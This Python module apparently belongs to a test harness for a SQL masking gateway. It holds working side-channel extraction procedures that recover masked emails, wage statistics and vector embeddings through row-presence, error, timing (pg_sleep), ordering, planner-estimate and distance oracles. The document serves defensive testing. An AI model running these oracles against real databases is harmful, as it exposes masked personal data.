"""Attacks that recover a masked value from what its mask does not touch: which rows come, how many, in which order, whether
there is an error, how long it takes.

Each is the whole procedure of an attacker: it asks, draws its conclusions, and asks again. On a database it recovers the
secret; `bypass/test_oracles.py` shows that, and that the same procedure learns nothing through the gateway.

    channel = Channel(client)
    recovered = by_prefix(channel)       # "s3cr"
    channel.transcript                   # everything that it was told
"""

from __future__ import annotations

import math
import struct
import time
from collections.abc import Callable, Sequence

from harness.leaks import told
from harness.wire import Client, Exchange

ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789.@"
LENGTH = 4
"""So many characters are recovered: enough to show that all could be, and quick."""

SLEEP = 0.15
"""Seconds that are told from none."""

DIMENSION = 4


class Channel:
    """A session, and all that it has been told."""

    def __init__(self, client: Client) -> None:
        self._client = client
        self.transcript: list[list[tuple[bytes, bytes]]] = []

    def ask(self, sql: str) -> Exchange:
        seen = self._client.query(sql)
        self.transcript.append(told(seen))
        return seen

    def number(self, sql: str) -> float:
        """The first cell; not a number when there is none."""
        rows = self.ask(sql).rows
        try:
            return float(rows[0][0])
        except (IndexError, TypeError, ValueError):
            return math.nan


Bit = Callable[[str], bool]
"""Whether a condition on the secret holds, by what the statement around it lets on."""


# -- O1 to O9: scalar values -------------------------------------------------------------------------------------------


def by_guessing(bit: Bit) -> str:
    """A character at a time, each by trying all."""
    known = ""
    for _ in range(LENGTH):
        known += next((c for c in ALPHABET if bit(f"email LIKE '{known}{c}%'")), "?")
    return known


def by_bisection(bit: Bit, length: int = LENGTH) -> str:
    """A character at a time, each by seven questions."""
    known = ""
    for place in range(1, length + 1):
        low, high = 0, 127
        while low < high:
            middle = (low + high + 1) // 2
            low, high = (middle, high) if bit(f"ascii(substr(email, {place}, 1)) >= {middle}") else (low, middle - 1)
        known += chr(low)
    return known


def o1_rows_of_a_filter(channel: Channel) -> str:
    return by_guessing(lambda condition: bool(channel.ask(f"SELECT id FROM docs WHERE id = 1 AND {condition}").rows))


def o2_count(channel: Channel) -> str:
    return by_guessing(lambda condition: channel.number(f"SELECT count(*) FROM docs WHERE id = 1 AND {condition}") == 1)


def o3_presence_of_an_error(channel: Channel) -> str:
    """The text of the error is nothing to it. What is not allowed at all is an error, too: so the opposite is asked as well."""

    def fails(condition: str, then: str, otherwise: str) -> bool:
        return bool(
            channel.ask(
                f"SELECT 1 / (CASE WHEN {condition} THEN {then} ELSE {otherwise} END) FROM docs WHERE id = 1"
            ).error
        )

    return by_guessing(lambda condition: fails(condition, "0", "1") and not fails(condition, "1", "0"))


def o4_affected_rows(channel: Channel) -> str:
    return by_guessing(
        lambda condition: (
            channel.ask(f"UPDATE docs SET title = title WHERE id = 1 AND {condition}").tags == ["UPDATE 1"]
        )
    )


def o5_time(channel: Channel) -> str:
    """A statement that sleeps. On a busy machine others are slow, too: what was slow is asked again."""

    def slow(condition: str) -> bool:
        begun = time.monotonic()
        channel.ask(f"SELECT CASE WHEN {condition} THEN (SELECT 1 FROM pg_sleep({SLEEP})) END FROM docs WHERE id = 1")
        return time.monotonic() - begun > SLEEP

    return by_bisection(lambda condition: all(slow(condition) for _ in range(3)), length=2)


def o6_bisection(channel: Channel) -> str:
    return by_bisection(lambda condition: bool(channel.ask(f"SELECT id FROM docs WHERE id = 1 AND {condition}").rows))


def o7_place_in_an_order(channel: Channel) -> str:
    """What is output are the words 'row' and 'probe'."""

    def first(probe: str) -> bool:
        rows = channel.ask(
            f"SELECT what FROM (SELECT 'row' AS what, email COLLATE \"C\" AS v FROM docs WHERE id = 1"
            f" UNION ALL SELECT 'probe', '{probe}') q ORDER BY v, what LIMIT 1"
        ).rows
        return rows == [[b"probe"]]

    known = ""
    for _ in range(LENGTH):
        low, high = 33, 126
        while low < high:
            middle = (low + high + 1) // 2
            probe = (known + chr(middle)).replace("'", "''")
            low, high = (middle, high) if first(probe) else (low, middle - 1)
        known += chr(low)
    return known


def o8_guess_list(channel: Channel, guesses: Sequence[str]) -> str:
    """One question: which of the guesses joins, is in, is equal."""
    listed = ", ".join(f"('{guess}')" for guess in guesses)
    for sql in (
        f"SELECT g FROM (VALUES {listed}) v(g) JOIN docs ON email = g",
        f"SELECT g FROM (VALUES {listed}) v(g) WHERE g IN (SELECT email FROM docs)",
        f"SELECT g FROM (VALUES {listed}) v(g) JOIN docs ON hashtext(email) = hashtext(g)",
        f"SELECT g FROM (VALUES {listed}) v(g) JOIN docs ON md5(email) = md5(g)",
        f"VALUES {listed} INTERSECT SELECT email FROM docs",
        f"SELECT min(v) FROM (SELECT email AS v FROM docs UNION ALL VALUES {listed}) q GROUP BY v HAVING count(*) > 1",
    ):
        if rows := channel.ask(sql).rows:
            return rows[0][0].decode()
    return ""


def o9_estimates(channel: Channel) -> str:
    """The planner's row counts, and the statistics that they come from."""
    rows = channel.ask(
        "SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'wages' AND attname = 'grade'"
    ).rows
    if rows and rows[0][0]:
        return rows[0][0].decode()
    estimates = {}
    for letter in "abcde":
        plan = channel.ask(f"EXPLAIN SELECT id FROM wages WHERE grade = 'grade-{letter}'").rows
        estimates[letter] = plan[-1][0] if plan else b""
    best = max(estimates, key=lambda letter: _estimated(estimates[letter]))
    return f"{{grade-{best}" if len(set(estimates.values())) > 1 else ""


def _estimated(line: bytes) -> int:
    return int(line.split(b"rows=")[1].split(b" ")[0]) if b"rows=" in line else -1


# -- V1 to V10: vectors ------------------------------------------------------------------------------------------------

Vector = tuple[float, ...]


def axis(place: int, size: float = 1) -> Vector:
    return tuple(size if place == i else 0.0 for i in range(DIMENSION))


def literal(vector: Sequence[float]) -> str:
    return "'[" + ",".join(f"{x:.9g}" for x in vector) + "]'"


ZERO = (0.0,) * DIMENSION


def score(channel: Channel, operator: str, query: Sequence[float]) -> float:
    """A distance, by each of the ways to have it in the output."""
    distance = f"embedding {operator} {literal(query)}"
    found = channel.number(f"SELECT {distance} FROM docs WHERE id = 1")
    if math.isnan(found):
        found = channel.number(f"SELECT {distance} FROM docs WHERE id = 1 ORDER BY {distance} LIMIT 1")
    if math.isnan(found):
        found = channel.number(
            f"SELECT max(s) FROM (SELECT {distance} AS s FROM docs WHERE id = 1 ORDER BY 1 LIMIT 1) q"
        )
    return found


def holds(channel: Channel, condition: str) -> bool:
    return bool(channel.ask(f"SELECT id FROM docs WHERE id = 1 AND {condition}").rows)


def v1_l2_distances(channel: Channel) -> Vector:
    origin = score(channel, "<->", ZERO) ** 2
    return tuple((origin + 1 - score(channel, "<->", axis(i)) ** 2) / 2 for i in range(DIMENSION))


def v2_inner_products_at_once(channel: Channel) -> Vector:
    """All components in one statement, in each of its forms."""
    for sql in (
        "SELECT "
        + ", ".join(f"-(embedding <#> {literal(axis(i))})" for i in range(DIMENSION))
        + " FROM docs WHERE id = 1",
        "SELECT "
        + ", ".join(f"inner_product(embedding, {literal(axis(i))})" for i in range(DIMENSION))
        + " FROM docs WHERE id = 1",
    ):
        if rows := channel.ask(sql).rows:
            return tuple(float(cell or "nan") for cell in rows[0])
    rows = channel.ask(
        f"SELECT -(embedding <#> (SELECT array_agg((j = i)::int ORDER BY j)::vector FROM generate_series(1, {DIMENSION}) j))"
        f" FROM docs, generate_series(1, {DIMENSION}) i WHERE id = 1 ORDER BY i"
    ).rows
    return tuple(float(row[0] or "nan") for row in rows)


def v3_cosine_distances(channel: Channel) -> Vector:
    """The direction only, which is what models that invert embeddings want."""
    return tuple(1 - score(channel, "<=>", axis(i)) for i in range(DIMENSION))


def v4_l1_distances(channel: Channel) -> Vector:
    return tuple((score(channel, "<+>", axis(i, -2)) - score(channel, "<+>", axis(i, 2))) / 2 for i in range(DIMENSION))


def v5_threshold(channel: Channel) -> Vector:
    """No score returned: which side of a plane it lies on, 22 times a component."""

    def component(place: int) -> float:
        low, high = -2.0, 2.0
        for _ in range(22):
            middle = (low + high) / 2
            inside = holds(channel, f"embedding <#> {literal(axis(place))} <= {-middle:.9f}")
            low, high = (middle, high) if inside else (low, middle)
        return (low + high) / 2

    return tuple(component(i) for i in range(DIMENSION))


def v6_comparison(channel: Channel) -> Vector:
    """pgvector's own order, component by component, to the last bit."""

    def ordered(number: int) -> float:
        """The number-th of all float4, in their order."""
        bits = number - 2**31 if number >= 2**31 else 2**32 - 1 - number
        return struct.unpack("!f", struct.pack("!I", bits))[0]

    lowest, highest = 2**31 - 1 - 0x40000000, 2**31 + 0x40000000  # -2 to 2
    known: list[float] = []
    for place in range(DIMENSION):
        low, high = lowest, highest
        rest = [-2.0] * (DIMENSION - place - 1)
        while low < high:
            middle = (low + high + 1) // 2
            if holds(channel, f"embedding >= {literal([*known, ordered(middle), *rest])}"):
                low = middle
            else:
                high = middle - 1
        known.append(ordered(low))
    return tuple(known)


def v8_rounded_scores(channel: Channel) -> Vector:
    def rounded(query: Vector) -> float:
        return channel.number(f"SELECT round((embedding <#> {literal(query)})::numeric, 2) FROM docs WHERE id = 1")

    return tuple(-rounded(axis(i)) for i in range(DIMENSION))


def v9_rounded_scores_of_a_long_query(channel: Channel) -> Vector:
    def rounded(query: Vector) -> float:
        return channel.number(f"SELECT round((embedding <#> {literal(query)})::numeric, 1) FROM docs WHERE id = 1")

    return tuple(-rounded(axis(i, 1e4)) / 1e4 for i in range(DIMENSION))


def v10_signs(channel: Channel) -> Vector:
    return tuple(1.0 if holds(channel, f"embedding <#> {literal(axis(i))} < 0") else -1.0 for i in range(DIMENSION))
